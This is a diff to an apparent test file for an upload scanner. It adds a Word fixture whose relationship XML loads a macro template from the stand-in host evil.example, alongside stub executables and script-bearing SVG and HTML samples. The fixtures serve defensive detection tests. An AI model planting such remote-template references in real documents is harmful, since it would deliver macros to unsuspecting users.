@@ -16,6 +16,10 @@ PDF = (
 )
 WINDOWS = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0\x4c\x01" + bytes(240)
 ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 0, 64, 0, 0) + bytes(64)
+FETCHING = (
+    b'<Relationships><Relationship Id="rId1" TargetMode="External" Target="https://evil.example/a.dotm" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
 HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
 
@@ -232,6 +236,7 @@ def hostile() -> dict[str, tuple[str, bytes, str]]:
         "a table as a document": ("a.docx", office("xl/workbook.xml", "spreadsheetml.sheet"), "content_mismatch"),
         "a document with a macro": ("a.docx", office(*word, word__vbaProject_dot_bin=ole("VBA")), "macro"),
         "a document of the kind with macros": ("a.docx", office("word/document.xml", "wordprocessingml.document.macroEnabled.12"), "macro"),
+        "a document that fetches its macros": ("a.docx", office(*word, word___rels__settings_dot_xml_dot_rels=FETCHING), "macro"),
         "a document with a program": ("a.docx", office(*word, word__embeddings__oleObject1_dot_bin=ole("\1Ole10Native")), program),
         "an old document with a macro": ("a.doc", ole("WordDocument", "_VBA_PROJECT"), "macro"),
         "an old document with a program": ("a.doc", ole("WordDocument", "\1Ole10Native"), program),
